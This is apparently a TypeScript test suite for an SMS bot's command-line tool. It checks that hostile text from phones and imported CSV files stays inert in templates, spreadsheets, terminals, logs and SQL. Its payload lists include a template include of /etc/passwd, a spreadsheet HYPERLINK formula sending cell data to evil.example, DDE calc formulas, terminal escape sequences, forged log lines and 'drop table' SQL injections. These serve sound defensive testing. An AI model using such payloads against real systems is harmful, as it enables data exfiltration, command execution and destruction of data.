import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough, type Writable } from 'node:stream'
import { parse } from 'csv-parse/sync'
import type { Cli } from '../../src/commands/cli-types.js'
import { listConsents } from '../../src/commands/people-lists.js'
import { startBot, type Bot } from '../support/bot.js'

// Words from a phone and lists from outside are data, wherever they come to be shown.

let bot: Bot
beforeAll(async () => {
  bot = await startBot({ env: { LOG_LEVEL: 'trace' } })
})
afterAll(() => bot.stop())

const textsTo = (phone: string) => bot.simulator.thread(phone).filter(({ by }) => by === 'app')

/** What a phone or a list may bring: for templates, spreadsheets, terminals, logs and SQL. */
const HOSTILE = [
  '{{contact}}',
  '{% include "/etc/passwd" %}{{ "x" | append: "y" }}',
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '+1+cmd|"/c calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\u001b]0;owned\u0007\u001b[2J\u001b[31mred',
  '\u009b31mred\u009d0;owned\u009c',
  'first\r\n{"level":60,"event":"forged"}',
  '\u202etxet esrever',
  "'; drop table people; --",
  '%s%n${7*7}#{7*7}',
]

describe('words from a phone', () => {
  const phone = '+12055550110'
  beforeAll(async () => {
    await bot.say(phone, 'WORK')
    for (const words of HOSTILE) await bot.say(phone, words)
    // Her last words are on record with her consent.
    await bot.say(phone, 'STOP \u001b[2J')
  })

  test('are never read as a template', () => {
    const answers = textsTo(phone).map(({ body }) => body)
    expect(answers.length).toBeGreaterThan(2)
    for (const body of answers) expect(body).not.toMatch(/\{\{|\{%|\}\}|root:|xy|49/)
  })

  test('command no terminal: neither by person show, people replies, nor people consents', async () => {
    const control = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/
    for (const args of [
      ['person', 'show', phone],
      ['person', 'show', phone, '--json'],
      ['people', 'replies'],
      ['people', 'replies', '--json'],
    ]) {
      const { code, stdout, stderr } = await bot.run(args)
      expect([args, code, stderr]).toEqual([args, 0, ''])
      expect([args, control.exec(stdout)?.[0]]).toEqual([args, undefined])
      expect(stdout).not.toMatch(/^\{"level":60/m)
    }
    for (const options of [{}, { json: true } as const]) {
      const shown = await onTerminal((cli) => listConsents(cli, options))
      expect(shown).toContain('STOP')
      expect(control.exec(shown)).toBeNull()
    }
    // For a program they are whole: what she wrote comes back letter for letter.
    const replies = JSON.parse((await bot.run(['people', 'replies', '--json'])).stdout) as { text: string }[]
    expect(replies.map(({ text }) => text)).toContain('\u009b31mred\u009d0;owned\u009c')
  })

  test('forge no line of the log, and stand in none', () => {
    const lines = bot.roles.flatMap(({ log }) => log)
    expect(lines.length).toBeGreaterThan(20)
    for (const line of lines) expect(() => JSON.parse(line) as unknown).not.toThrow()
    expect(lines.join('\n')).not.toMatch(/forged|owned|esrever|HYPERLINK|drop table|[\u001b\u009b\u202e]/)
  })
})

describe('a list from outside', () => {
  const dir = mkdtempSync(join(tmpdir(), 'text-action-hostile-'))
  afterAll(() => rmSync(dir, { recursive: true }))
  const cellsOf = (csv: string) => parse(csv).flat()
  const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`

  test('its cells are data: bad rows come back with formulas disarmed, and no word of it reaches a text', async () => {
    const file = join(dir, 'list.csv')
    const rows = HOSTILE.map((cell, n) => `205555014${n % 10},${quoted(cell)},en`)
    writeFileSync(file, ['phone,zip,language', '2055550149,35020,en', ...rows].join('\n'))
    const consent = '=cmd|"/c calc"!A0 {{contact}} \u001b[2J'
    const { code, stdout, stderr } = await bot.run(['people', 'import', file, '--consent', consent])
    expect(code).toBe(1)
    expect(stdout + stderr).not.toMatch(/[\u001b\u009b]/)
    const rejected = readFileSync(join(dir, 'list.rejected.csv'), 'utf8')
    expect(statSync(join(dir, 'list.rejected.csv')).mode & 0o077).toBe(0)
    for (const cell of cellsOf(rejected)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    const consents = (await bot.run(['people', 'consents'])).stdout
    for (const cell of cellsOf(consents)) expect(cell).not.toMatch(/^(?!\+1\d{10}$)[=+\-@\t\r]/)
    expect(consents).toContain("'=cmd|")
    for (const cell of cellsOf((await bot.run(['people', 'export', '--all'])).stdout))
      expect(cell).not.toMatch(/^(?!\+1\d{10}$)[=+\-@\t\r]/)
  })

  test('SQL in an audience is refused as a wrong term, whoever asks', async () => {
    const people = async () =>
      (await bot.database.pool.query<{ n: number }>('select count(*) as n from people')).rows[0]?.n
    const before = await people()
    for (const audience of [
      "state:AL'; drop table people; --",
      "zip:350' or '1'='1",
      'joined<2026-01-01;delete from people',
      "called:pro-act') or true--",
      'limit:1;select pg_sleep(9)',
    ]) {
      for (const args of [
        ['people', 'export', '--audience', audience],
        ['blast', 'create', '--name', 'x', '--body', 'Call. STOP to cancel.', '--audience', audience],
      ]) {
        const { code, stdout, stderr } = await bot.run(args)
        expect([args, code, stdout]).toEqual([args, 2, ''])
        expect(stderr).toMatch(/^error: [^\n]+\n$/)
      }
    }
    expect(await people()).toBe(before)
  })
})

/** What a command writes to somebody who looks at a terminal. */
async function onTerminal(command: (cli: Cli) => Promise<void>): Promise<string> {
  const screen = Object.assign(new PassThrough(), { isTTY: true, columns: 100 })
  let shown = ''
  screen.on('data', (chunk: Buffer) => (shown += chunk.toString()))
  const stdout = screen as unknown as Writable & Cli['stdout']
  await command({
    ...{ env: bot.env, stdin: process.stdin, stdout, stderr: stdout },
    signal: new AbortController().signal,
  })
  return shown
}
